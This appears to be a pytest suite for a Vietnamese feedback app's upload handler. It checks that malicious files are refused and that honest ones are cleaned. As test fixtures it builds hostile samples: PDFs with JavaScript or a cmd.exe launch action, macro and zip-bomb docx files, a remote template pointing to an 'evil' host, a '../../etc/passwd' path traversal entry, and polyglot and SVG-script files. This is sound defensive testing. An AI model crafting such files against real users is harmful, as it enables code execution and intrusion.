"""Files made to harm are refused with a reason, leave nothing on the disk; honest ones are cleaned and kept."""

import io
import socket
import threading
import zipfile

import pikepdf
import pytest
from PIL import Image

from feedback_app.core import files
from feedback_app.core.errors import NotFound
from feedback_app.core.files.taking_in import take_in

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = f'<Types><Override PartName="/word/document.xml" ContentType="{WORD}"/></Types>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"


def picture(form="JPEG", size=(40, 30), **more) -> bytes:
    file = io.BytesIO()
    Image.effect_noise(size, 80).convert("RGB").save(file, form, **more)
    return file.getvalue()


def pdf(change=lambda _document: None, **save) -> bytes:
    document, file = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    change(document)
    document.save(file, **save)
    return file.getvalue()


def word(entries=(), types=TYPES, document=b"<w:document/>", tail=b"") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", types)
        package.writestr("word/document.xml", document)
        for name, content in entries:
            package.writestr(name, content)
    return file.getvalue() + tail


def set_root(key, value):
    return lambda document: document.Root.__setitem__(key, value)


def script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def nested_script(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
    document.pages[0].obj["/Annots"] = pikepdf.Array([note])


def attached(document):
    document.attachments["a.exe"] = b"MZ"


def plain_zip() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        package.writestr("a.txt", "a")
    return file.getvalue()


OUTSIDE = (
    '<Relationships><Relationship Id="1" Type="http://x/relationships/attachedTemplate" '
    'Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
)
HOSTILE = {
    "empty": ("a.jpg", b"", "rỗng"),
    "html called jpg": ("a.jpg", HTML, "trang web"),
    "svg": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "SVG"),
    "svg called png": ("a.png", b'<?xml version="1.0"?><svg onload="x()"/>', "SVG"),
    "words called jpg": ("a.jpg", "xin chào".encode(), "đuôi tệp"),
    "truncated jpeg": ("a.jpg", picture()[:-200], "cắt cụt"),
    "truncated png": ("a.png", picture("PNG")[:-200], "cắt cụt"),
    "jpeg and zip": ("a.jpg", picture() + plain_zip(), "hai định dạng"),
    "jpeg and html": ("a.jpg", picture() + HTML, "hai định dạng"),
    "pdf and zip": ("a.pdf", pdf() + plain_zip(), "hai định dạng"),
    "pdf with a tail": ("a.pdf", pdf() + b"MZ" * 40, "dữ liệu lạ"),
    "too many pixels": (
        "a.png",
        picture("PNG", (1, 1)).replace(b"\0\0\0\1\0\0\0\1", b"\0\0\x40\0\0\0\x40\0"),
        "ảnh",
    ),
    "bitmap": ("a.bmp", picture("BMP"), "định dạng ảnh"),
    "pdf with script": ("a.pdf", pdf(script), "JavaScript"),
    "pdf with a script in a link": ("a.pdf", pdf(nested_script), "JavaScript"),
    "pdf that starts a program": ("a.pdf", pdf(launch), "lệnh mở"),
    "pdf with a file inside": ("a.pdf", pdf(attached), "tệp nhúng"),
    "pdf form in XFA": ("a.pdf", pdf(set_root("/AcroForm", pikepdf.Dictionary(XFA="x"))), "biểu mẫu động"),
    "pdf with a password": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "mật khẩu"),
    "truncated pdf": ("a.pdf", pdf()[:-60], "cắt cụt"),
    "archive": ("a.zip", plain_zip(), "tệp nén"),
    "archive called docx": ("a.docx", plain_zip(), "tệp nén"),
    "rar": ("a.rar", b"Rar!\x1a\x07\x00xxxx", "tệp nén"),
    "gzip": ("a.gz", b"\x1f\x8b\x08\x00xxxx", "tệp nén"),
    "program": ("a.pdf", b"MZ\x90\x00" + b"\0" * 60, "chương trình"),
    "old word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60, "Office cũ"),
    "zip bomb": ("a.docx", word([("word/media/a.bin", b"\0" * 30_000_000)]), "bung ra"),
    "macro": ("a.docx", word([("word/vbaProject.bin", b"x")]), "macro"),
    "macro by type": (
        "a.docx",
        word(types=TYPES.replace("document.main", "document.macroEnabled.main")),
        "macro",
    ),
    "nested archive": ("a.docx", word([("word/media/a.png", plain_zip())]), "tệp nhúng"),
    "embedded object": ("a.docx", word([("word/embeddings/o.bin", b"x")]), "tệp nhúng"),
    "outside template": ("a.docx", word([("word/_rels/settings.xml.rels", OUTSIDE)]), "nơi khác"),
    "entity bomb": ("a.docx", word(document=b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "bất thường"),
    "path in a package": ("a.docx", word([("../../etc/passwd", b"x")]), "bất thường"),
    "package with a tail": ("a.docx", word(tail=b"%PDF-1.4"), "hai định dạng"),
    "truncated docx": ("a.docx", word()[:-30], "cắt cụt"),
    "latin text": ("a.txt", b"c\xf4ng ty", "UTF-8"),
    "control signs": ("a.txt", b"a\x00b", "văn bản thường"),
    "csv with markup": ("a.csv", b"a,b\n<script>1</script>", "trang web"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_its_reason(app, tmp_path, case):
    name, content, reason = HOSTILE[case]
    with pytest.raises(files.Refused) as refusal:
        take_in(io.BytesIO(content), name, tmp_path)
    assert reason in refusal.value.reason
    assert list(tmp_path.iterdir()) == []


def test_a_file_over_twenty_megabytes_is_refused_before_it_is_read_to_its_end(app, tmp_path):
    class Endless(io.RawIOBase):
        def read(self, size=-1):
            return b"\xff\xd8\xff" + b"\0" * size

    with pytest.raises(files.Refused, match="20 MB"):
        take_in(Endless(), "a.jpg", tmp_path)


@pytest.mark.parametrize(
    "name,content,shown,media_type",
    [
        ("Giấy hẹn.JPG", picture(), "Giấy hẹn.jpg", "image/jpeg"),
        ("ảnh.jpg", picture("PNG"), "ảnh.png", "image/png"),
        ("../../công văn.pdf", pdf(), "công văn.pdf", "application/pdf"),
        ("C:\\x\\đơn.docx", word(), "đơn.docx", WORD.replace(".main+xml", "")),
        ("a\u202etxt.exe.txt", "Kính gửi".encode(), "atxt.exe.txt", "text/plain"),
        ("số liệu.csv", b"a;b\n1;2", "số liệu.csv", "text/csv"),
    ],
)
def test_an_honest_file_is_taken_under_a_harmless_name(app, tmp_path, name, content, shown, media_type):
    taken = take_in(io.BytesIO(content), name, tmp_path)
    assert (taken.name, taken.media_type) == (shown, media_type)
    assert (tmp_path / taken.key).stat().st_size == taken.size


def test_a_picture_loses_its_place_and_device_and_says_so(app, tmp_path):
    exif = Image.Exif()
    exif[0x010F] = "Camera of Mr Example"
    taken = take_in(io.BytesIO(picture(exif=exif)), "a.jpg", tmp_path)
    assert b"Mr Example" not in (tmp_path / taken.key).read_bytes()
    assert "vị trí" in taken.cleaned


def test_a_pdf_is_kept_byte_for_byte_so_that_signatures_hold(app, tmp_path):
    content = pdf()
    taken = take_in(io.BytesIO(content), "a.pdf", tmp_path)
    assert (tmp_path / taken.key).read_bytes() == content


def test_a_stored_file_is_given_out_as_a_download_only(app):
    with app.test_request_context():
        taken = files.receive(io.BytesIO("Kính gửi".encode()), "thư.txt")
        response = files.download(taken.key, taken.name, taken.media_type)
        assert b"".join(response.response) == "Kính gửi".encode()
        assert response.headers["Content-Disposition"].startswith("attachment")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        response.close()


@pytest.mark.parametrize("key", ["../secret.key", "0" * 32, "", "A" * 32])
def test_a_key_that_is_none_opens_nothing(app, key):
    with pytest.raises(NotFound):
        files.open(key)


def clamd(verdict: bytes) -> str:
    """Run a virus scanner that says ``verdict`` once; return its address."""
    server = socket.create_server(("127.0.0.1", 0))

    def answer():
        connection, _address = server.accept()
        with server, connection:
            received = b""
            while not received.endswith(b"\0\0\0\0"):
                received += connection.recv(65536)
            connection.sendall(verdict)

    threading.Thread(target=answer, daemon=True).start()
    return f"127.0.0.1:{server.getsockname()[1]}"


def test_what_the_virus_scanner_finds_is_refused(app, tmp_path):
    with pytest.raises(files.Refused, match="vi-rút"):
        take_in(io.BytesIO(pdf()), "a.pdf", tmp_path, scanner=clamd(b"stream: Eicar FOUND\0"))


def test_what_the_virus_scanner_passes_is_taken(app, tmp_path):
    assert take_in(io.BytesIO(pdf()), "a.pdf", tmp_path, scanner=clamd(b"stream: OK\0")).size > 0


def test_without_an_answer_of_the_virus_scanner_nothing_is_taken(app, tmp_path):
    with pytest.raises(files.Refused, match="thử lại"):
        take_in(io.BytesIO(pdf()), "a.pdf", tmp_path, scanner=str(tmp_path / "no-socket"))
